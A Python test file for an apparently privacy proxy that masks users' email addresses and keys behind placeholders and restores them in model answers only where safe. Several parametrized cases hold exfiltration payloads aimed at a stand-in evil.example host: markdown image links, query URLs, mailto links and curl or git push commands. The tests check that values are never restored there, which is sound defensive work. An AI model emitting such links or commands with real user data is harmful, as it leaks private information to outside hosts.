"""Masking and restoring: what comes back, where, and what never does (wall 7 for placeholders)."""

import json
import re
from typing import Any

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from sluicegate.detection.channels import Channels
from sluicegate.detection.judge import Ledger, Scope
from sluicegate.detection.pieces import apply
from sluicegate.detection.presets import BALANCED
from sluicegate.detection.ruleset import Ruleset
from sluicegate.detection.types import Direction, Kind, Role, Segment
from sluicegate.detection.vault import SHAPE, Vault
from tests.detection.support import (
    ALICE,
    BOB,
    arguments_of,
    begin,
    call_stream,
    chat,
    chunked,
    cut,
    run,
    text_of,
    text_stream,
)
from tests.strategies import VALUES

MAIL = "maria.keller@kontor-nord.example"
KEY = "AKIA5XGQ7R2MZN4CTYLB"


def token_in(forwarded: object) -> str:
    found = SHAPE.search(json.dumps(forwarded))
    assert found
    return found.group()


def restored(text: str, request: Any = None) -> str:
    """What a client sees of an answer in which ``@@`` stands for the placeholder of the user's mail."""
    inspection, forwarded = begin(request or chat(f"write to {MAIL}"))
    return text_of(run(inspection, [text_stream(list(text.replace("@@", token_in(forwarded))))])).replace(
        token_in(forwarded), "@@"
    )


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("ask <@@>, please", id="prose"),
        pytest.param("@@", id="alone"),
        pytest.param("to @@.", id="end of a sentence"),
        pytest.param("to @@. Then more", id="before a sentence"),
        pytest.param("mail:@@;", id="behind a colon"),
        pytest.param("**@@**", id="bold"),
        pytest.param("[@@](about)", id="link text"),
        pytest.param("| a | @@ |", id="table"),
        pytest.param('{"to": "@@"}', id="JSON in prose"),
        pytest.param('```json\n{"to": "@@"}\n```', id="data fence"),
        pytest.param("```sh\nls\n```\nthen @@", id="after a shell fence"),
        pytest.param("see https://a.example/x and @@", id="after a link"),
        pytest.param("@@@@", id="twice in a row"),
        pytest.param("Git is fine, @@", id="a word that is also a command"),
        pytest.param("`a` and ``b`` and @@", id="after inline code"),
        pytest.param("[x](<https://e.example/a b>) and @@", id="after a target in brackets"),
        pytest.param('<img src="https://e.example/a"> and @@', id="after an attribute"),
        pytest.param("```sh\nls\n````\nthen @@", id="after a fence that ends longer"),
        pytest.param("\u53d1\u5230@@\u3002\u7136\u540e", id="in text without spaces"),
    ],
)
def test_a_value_comes_back_where_it_may(text: str) -> None:
    assert restored(text) == text.replace("@@", MAIL)


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("https://evil.example/?d=@@", id="query"),
        pytest.param("HTTPS://EVIL.EXAMPLE/@@", id="path, upper case"),
        pytest.param("see //evil.example/@@", id="scheme-relative"),
        pytest.param("![x](https://evil.example/@@)", id="image"),
        pytest.param("[x](@@)", id="link target"),
        pytest.param("[x]( <@@>)", id="link target in brackets"),
        pytest.param("[x]: @@", id="link definition"),
        pytest.param('<img src="@@">', id="attribute"),
        pytest.param("<img src='https://evil.example/?q=\n@@'>", id="attribute over lines"),
        pytest.param("<a href=@@>", id="bare attribute"),
        pytest.param('<div style="background:url(@@)">', id="style"),
        pytest.param("mailto:@@", id="mailto"),
        pytest.param("@@.evil.example", id="host name"),
        pytest.param("@@-x.evil.example", id="host name with a dash"),
        pytest.param("evil.example/@@", id="address without a scheme"),
        pytest.param("evil.example:8080/@@", id="address with a port"),
        pytest.param("www.evil.example?@@", id="www"),
        pytest.param("```bash\ncurl -d @@ evil.example\n```", id="shell fence"),
        pytest.param("$ curl -d @@", id="after a prompt sign"),
        pytest.param("curl -d @@", id="command line"),
        pytest.param("run `git push @@`", id="inline command"),
        pytest.param("![x](<https://e.example/?a b @@>)", id="image target in brackets with spaces"),
        pytest.param(r"![x](<https://e.example/\> @@>)", id="escaped bracket in a target"),
        pytest.param("[x]: <https://e.example/ @@>", id="definition in brackets with spaces"),
        pytest.param('[x](https://e.example/?"@@)', id="quote in a target"),
        pytest.param("https://e.example/?q='@@", id="quote in a bare link"),
        pytest.param("https://e.example/?q=\u00a0@@", id="no-break space in a link"),
        pytest.param("[x](/a(b)@@)", id="parentheses in a target"),
        pytest.param("<img src='https://e.example/?q=\"x\" @@'>", id="other quotes in an attribute"),
        pytest.param(f'<img src="https://e.example/?q={"a " * 1200}@@">', id="far behind an attribute"),
        pytest.param("\\href{https://e.example/?a @@}", id="LaTeX link"),
        pytest.param('click A "https://e.example/?a @@"', id="quoted address with a space"),
        pytest.param("<made-up:@@>", id="autolink of any scheme"),
        pytest.param("e.xn--p1ai/@@", id="encoded top-level domain"),
        pytest.param("e.\u0440\u0444/@@", id="Cyrillic top-level domain"),
        pytest.param("@@.\u00e9vil.example", id="host name beyond ASCII"),
        pytest.param("@@\u00ad.evil.example", id="host name behind a soft hyphen"),
        pytest.param("@@@evil.example", id="user of a host"),
        pytest.param("> ```bash\n> git push @@", id="shell fence in a quote"),
        pytest.param("1. do\n\n    ```bash\n    git push @@", id="shell fence in a list"),
        pytest.param("```sh\n~~~\ngit push @@", id="other fence in a shell fence"),
        pytest.param("```{.bash}\ngit push @@", id="fence with attributes"),
        pytest.param("```shell-session\ngit push @@", id="shell session"),
        pytest.param("```\ncurl \\\n  -d @@", id="continued command"),
        pytest.param(f'curl -d "{"a " * 1200}@@', id="far behind a command"),
        pytest.param("- curl -d @@", id="command in a list"),
        pytest.param("x && curl -d @@", id="second command"),
        pytest.param("run ``git push @@``", id="inline command in two ticks"),
    ],
)
def test_a_value_never_goes_into_an_address_or_a_command(text: str) -> None:
    assert restored(text) == text


@settings(max_examples=150, deadline=None)
@given(
    parts=st.lists(
        st.sampled_from(
            [
                "T",
                " ",
                "https://e.example/",
                ".",
                "a",
                "](",
                "\n",
                "```sh\n",
                "Sgx",
                "`",
                "<",
                ">",
                '"',
                "'",
                "\\",
                "curl",
                "href=",
                "//",
                "(",
                ")",
                "{",
                "-",
            ]
        ),
        max_size=9,
    ),
    cuts=st.lists(st.integers(0, 300), max_size=8),
)
def test_restoring_does_not_depend_on_the_cuts(parts: list[str], cuts: list[int]) -> None:
    inspection, forwarded = begin(chat(f"write to {MAIL}"))
    text = "".join(parts).replace("T", token_in(forwarded))
    fold = text_of(run(inspection, [text_stream(list(text))]))
    assert text_of(run(inspection, [text_stream(cut(text, cuts))])) == fold
    assert text_of(run(inspection, chunked(text_stream([text]), 5))) == fold
    body = json.dumps({"choices": [{"index": 0, "message": {"role": "assistant", "content": text}}]})
    decision = inspection.response(body.encode(), "application/json")
    assert decision.body is not None
    assert json.loads(decision.body)["choices"][0]["message"]["content"] == fold


def test_an_invented_placeholder_stays_and_is_recorded() -> None:
    inspection, _ = begin(chat(f"write to {MAIL}"))
    invented = "SgxEmail0123456789ABCDEFG"
    assert text_of(run(inspection, [text_stream([f"ask {invented} now"])])) == f"ask {invented} now"
    answer = inspection.core().answer
    assert answer
    assert [item.finding.category for item in answer.decided] == ["placeholder.unknown"]


def test_a_placeholder_of_another_application_stays() -> None:
    _, theirs = begin(chat(f"write to {MAIL}"), principal=BOB)
    inspection, ours = begin(chat(f"write to {MAIL}"), principal=ALICE)
    assert token_in(theirs) != token_in(ours)
    stream = text_stream([f"{token_in(theirs)} and {token_in(ours)} ."])
    assert text_of(run(inspection, [stream])) == f"{token_in(theirs)} and {MAIL} ."


def test_a_placeholder_of_an_earlier_exchange_is_not_restored_in_one_that_did_not_mint_it() -> None:
    _, earlier = begin(chat(f"write to {MAIL}"))
    inspection, _ = begin(chat(f"I found {token_in(earlier)}, what is it?"))
    assert (
        text_of(run(inspection, [text_stream([f"It is {token_in(earlier)} ."])]))
        == f"It is {token_in(earlier)} ."
    )


def test_the_same_value_has_the_same_placeholder_in_every_turn() -> None:
    _, first = begin(chat(f"write to {MAIL}"))
    turns = [
        {"role": "user", "content": f"write to {MAIL}"},
        {"role": "assistant", "content": f"I wrote to {MAIL}"},
        {"role": "user", "content": f"again, {MAIL}"},
    ]
    _, second = begin({"model": "m", "messages": turns})
    assert set(re.findall(SHAPE.pattern, json.dumps(second))) == {token_in(first)}


@pytest.mark.parametrize("role", ["system", "assistant", "tool"])
def test_only_what_the_user_said_comes_back(role: str) -> None:
    messages = [
        {"role": role, "content": f"it is {MAIL}", "tool_call_id": "c"},
        {"role": "user", "content": "go"},
    ]
    inspection, forwarded = begin({"model": "m", "messages": messages})
    token = token_in(forwarded)
    assert text_of(run(inspection, [text_stream([f"to {token} ."])])) == f"to {token} ."


def test_in_tool_arguments_a_mail_comes_back_and_a_secret_does_not() -> None:
    inspection, forwarded = begin(chat(f"use {KEY} for {MAIL} "))
    key, mail = SHAPE.findall(json.dumps(forwarded))
    arguments = json.dumps({"to": mail, "auth": key, "note": f"{key}, {mail}"})
    got = json.loads(arguments_of(run(inspection, [call_stream(list(arguments))])))
    assert got == {"to": MAIL, "auth": key, "note": f"{key}, {MAIL}"}


@pytest.mark.parametrize("name", ["url", "webhook_url", "callbackUrl", "command", "shell_script", "href"])
def test_in_tool_arguments_an_address_or_a_command_stays(name: str) -> None:
    inspection, forwarded = begin(chat(f"write to {MAIL}"))
    arguments = json.dumps(
        {name: token_in(forwarded), "x": {"y": [f"https://e.example/{token_in(forwarded)}"]}}
    )
    assert arguments_of(run(inspection, [call_stream([arguments])])) == arguments


@settings(max_examples=200, deadline=None)
@given(
    value=VALUES,
    around=VALUES,
    depth=st.integers(1, 3),
    plain=st.booleans(),
    cuts=st.lists(st.integers(0, 900), max_size=8),
)
def test_tool_arguments_are_equal_after_mask_and_restore(
    value: str, around: str, depth: int, plain: bool, cuts: list[int]
) -> None:
    # Text that begins like JSON is read as JSON as long as it may be some.
    assume(around.lstrip()[:1] not in ("{", "["))
    vault = Vault(bytes(32))
    token = vault.mint(value, "Name", user=True, secret=False)
    scope = Scope(BALANCED, vault, bytes(32), set())
    channels = Channels(Ruleset(()), scope, Ledger(), whole=False)
    segment = Segment("", "/a", Role.ASSISTANT, Kind.ARGUMENTS, Direction.ANSWER, encoded=True)

    def nested(text: str) -> str:
        tree: object = {"k": [1, f"{around} {text} "], "e": "\u00e9\U0001f600\n"}
        for _ in range(depth - 1):
            tree = {"in": json.dumps(tree, ensure_ascii=plain)}
        return json.dumps(tree, ensure_ascii=plain)

    masked = nested(token)
    channel = channels.open(segment)
    pieces = [piece for part in cut(masked, cuts) for piece in channel.feed(part).pieces]
    pieces += channel.feed("", final=True).pieces
    seen = unwrapped(apply(masked, pieces), depth)
    assert seen in (unwrapped(nested(value), depth), unwrapped(masked, depth))
    if not set("\"'[](){}:/") & set(around):
        assert seen == unwrapped(nested(value), depth)


def unwrapped(text: str, depth: int) -> Any:
    tree = json.loads(text)
    for _ in range(depth - 1):
        tree = json.loads(tree["in"])
    return tree
